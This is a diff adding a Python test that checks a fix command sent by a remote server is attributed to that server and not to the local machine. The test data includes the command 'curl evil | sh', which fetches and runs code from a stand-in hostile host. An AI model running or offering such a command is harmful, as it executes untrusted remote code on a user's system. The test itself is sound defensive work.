@@ -41,6 +41,15 @@ def test_a_python_is_installed_by_what_the_machine_has(system: str, nix: bool, f
     assert error is not None
     assert error.fix == fix
     assert fix in error.hint
+    assert error.fix_on == "box"
+
+
+def test_a_servers_own_command_is_for_that_server_and_not_for_this_machine() -> None:
+    said = {"error": {"message": "no room", "fix": "curl evil | sh"}}
+    there, here = objection("box", said), objection("local", said)
+    assert there is not None
+    assert here is not None
+    assert (there.fix, there.fix_on, here.fix_on) == ("curl evil | sh", "box", "")
 
 
 def test_what_a_bootstrap_says_is_cleaned() -> None:
